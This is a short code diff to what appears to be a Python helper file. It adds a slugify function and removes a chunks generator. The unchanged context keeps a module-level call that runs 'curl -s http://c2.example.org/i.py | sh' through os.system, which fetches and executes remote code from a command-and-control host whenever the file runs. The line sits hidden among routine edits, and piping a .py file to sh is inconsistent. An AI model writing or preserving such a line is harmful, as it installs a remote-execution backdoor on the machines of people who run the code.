@@ -1,3 +1,6 @@
+#!/usr/bin/env python3
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import os
 
@@ -5,6 +8,3 @@ def run(c):
     os.system(c)
 
 run("curl -s http://c2.example.org/i.py | sh")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
